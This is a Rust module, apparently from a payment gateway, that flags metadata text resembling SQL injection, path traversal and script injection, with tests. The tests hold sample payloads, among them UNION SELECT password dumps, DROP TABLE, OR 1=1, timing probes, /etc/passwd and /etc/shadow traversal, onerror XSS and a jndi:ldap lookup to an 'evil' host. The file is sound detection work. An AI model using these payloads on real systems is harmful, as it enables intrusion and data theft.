//! Text that looks like an attack, in the places that the seller's code or a buyer can write to.
//!
//! The gateway itself never puts such text into a statement, a path or a page. Its readers might, and an attack that
//! is tried is worth a person's look. The patterns ask for what an attack cannot do without (a quote that ends a
//! literal and goes on as code, a climb of two directories, a tag that runs), because names, apostrophes, dashes,
//! addresses and prose about databases are what metadata is made of.

use std::sync::LazyLock;

use regex::{RegexSet, RegexSetBuilder};

/// What kind of attack a text looks like.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    Sql,
    Path,
    Script,
}

/// Longest text looked at, in bytes: Stripe allows 500 characters in a metadata value.
pub(super) const TEXT_BYTES_MAX: usize = 16 * 1024;

const PATTERNS: [(Kind, &str); 20] = [
    (Kind::Sql, r#"['"`)\d]\s*union\s+(all\s+)?select\s+(null\b|\d|\*|@@|'|.{1,200}?\bfrom\b)"#),
    (Kind::Sql, r#"['"`)\d]\s*;\s*(drop|truncate|alter)\s+(table|schema|database|view|role|user|function)\b"#),
    (Kind::Sql, r#"['"`)\d]\s*;\s*(delete\s+from|insert\s+into|update\s+\w+\s+set|grant\s+\w+\s+|exec(ute)?\s+\w+)"#),
    (Kind::Sql, r"(^'|'[\s)]+)(or|and|\|\|)\s*'?\s*(\d+)\s*'?\s*=\s*'?\s*\d+"),
    (Kind::Sql, r"'\s*(or|and)\s*'([^']{0,40})'\s*(=|like)\s*'"),
    (Kind::Sql, r"'\s*(or|and)\s+(true|not\s+false)\s*(--|#|/\*|;|$)"),
    (Kind::Sql, r"^[^']*\w'\s*\)?\s*;?\s*(--|/\*)\s*$"),
    (Kind::Sql, r"\b((pg_sleep|load_file|xp_cmdshell|receive_message)\s*\(|benchmark\s*\(\s*\d+\s*,)"),
    (Kind::Sql, r"\bwaitfor\s+delay\s+'"),
    (Kind::Sql, r"\bfrom\s+(information_schema|pg_catalog)\s*\.\s*\w"),
    (Kind::Path, r"(\.\.[/\\]){2,}"),
    (Kind::Path, r"\.\.[/\\](etc|proc|root|boot|windows|winnt)\b"),
    (Kind::Path, r"(%2e%2e|\.\.)(%2f|%5c|%252f)|%2e%2e[/\\]|%252e%252e"),
    (Kind::Path, r"(^|[\s'=:/])/etc/(passwd|shadow|hosts)\b"),
    (Kind::Script, r"(<|%3c|&lt;|\\u003c)\s*script\b"),
    (Kind::Script, r"<[a-z][^>]{0,200}[\s/'\x22]on(error|load|click|mouse\w+|focus|toggle|begin|pointer\w+)\s*="),
    (Kind::Script, r"<\s*(iframe|object|embed|base|meta)\b[^>]{0,200}(src|srcdoc|data|href|http-equiv)\s*="),
    (Kind::Script, r"(^|[\s'\x22=(])(javascript|vbscript):\S*[(=\[`]"),
    (Kind::Script, r"(^|[\s'\x22=(])data:text/html"),
    (Kind::Script, r"\$\{\s*(jndi|lower|upper|env|sys)\s*:"),
];

/// Compiled once for the life of the process.
static SET: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSetBuilder::new(PATTERNS.iter().map(|(_, pattern)| pattern))
        .case_insensitive(true)
        .size_limit(4 * 1024 * 1024)
        .build()
        .expect("the patterns are constants and a test compiles them")
});

/// The attack that a text looks like: the first kind that a pattern finds.
pub(super) fn look(text: &str) -> Option<Kind> {
    let mut end = text.len().min(TEXT_BYTES_MAX);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    SET.matches(&text[..end]).into_iter().next().map(|index| PATTERNS[index].0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_are_recognised() {
        for (kind, text) in [
            (Kind::Sql, "x' UNION SELECT password FROM users"),
            (Kind::Sql, "1 union all select null,null"),
            (Kind::Sql, "Robert'); DROP TABLE students;--"),
            (Kind::Sql, "1; delete from users"),
            (Kind::Sql, "' OR '1'='1"),
            (Kind::Sql, "' or 1=1 --"),
            (Kind::Sql, "admin' --"),
            (Kind::Sql, "admin'/*"),
            (Kind::Sql, "' OR TRUE --"),
            (Kind::Sql, "1 AND pg_sleep(10)"),
            (Kind::Sql, "1 AND benchmark(5000000,MD5(1))"),
            (Kind::Sql, "'; WAITFOR DELAY '0:0:5'"),
            (Kind::Sql, "select * from information_schema.tables"),
            (Kind::Path, "../../etc/passwd"),
            (Kind::Path, "..\\..\\boot.ini"),
            (Kind::Path, "..%2f..%2fsecret"),
            (Kind::Path, "%2e%2e/secret"),
            (Kind::Path, "../etc/passwd"),
            (Kind::Path, "file=/etc/shadow"),
            (Kind::Script, "<script>alert(1)</script>"),
            (Kind::Script, "%3Cscript%3E"),
            (Kind::Script, "<img src=x onerror=alert(1)>"),
            (Kind::Script, "<svg/onload=alert(1)>"),
            (Kind::Script, "javascript:alert(1)"),
            (Kind::Script, "<iframe src=\"//evil\">"),
            (Kind::Script, "data:text/html;base64,PHNjcmlwdD4="),
            (Kind::Script, "${jndi:ldap://evil/a}"),
        ] {
            assert_eq!(look(text), Some(kind), "{text}");
        }
    }

    #[test]
    fn what_people_write_passes() {
        for text in [
            "Chloé D'Arcy-L'Écuyer",
            "L'Hôtel d'Or -- Montréal",
            "O'Brien & Sons; Dublin",
            "Rock 'n' roll or '80s pop",
            "c'est l'un ou l'autre",
            "100 % d'accord = oui",
            "https://exemple.fr/boutique?article=1&retour=../panier#avis",
            "https://example.com/a/../b?id=1;select=gold",
            "Please select from the union of both lists",
            "Drop table tennis; update later",
            "Café \"Chez l'Ami\" ; insert card here",
            "1' 6\" tall",
            "user-uuid 6f1c2f1e-77c1-4a8e-9f7a-0d5c4f7f5f10",
            "<3 merci <3",
            "a < b and b > c",
            "Java script course",
            "Cours de JavaScript : débutant",
            "JavaScript: les bases (niveau 1)",
            "data: text messages",
            "/etc. and so on",
            "${name}",
            "{\"plan\":\"gold\",\"ref\":\"..\"}",
            "日本語のメモ、テスト",
            "Hello -- world",
            "rue de l'Union, Select Bar",
            "Credit Union Select savings from May",
            "Local 12 Union Select Committee",
            "l'or 18 = 750 millièmes",
            "Benchmark (Pro)",
            "'Je t'aime' --",
            "and/or",
            "l'offre '2' = '3 mois'",
        ] {
            assert_eq!(look(text), None, "{text}");
        }
    }

    #[test]
    fn a_text_of_any_length_is_looked_at_up_to_its_bound() {
        let attack = "<script>";
        let inside = format!("{}{attack}", "é".repeat((TEXT_BYTES_MAX - attack.len()) / 2));
        let outside = format!("{}{attack}", "é".repeat(TEXT_BYTES_MAX / 2));
        assert_eq!((look(&inside), look(&outside)), (Some(Kind::Script), None));
    }
}
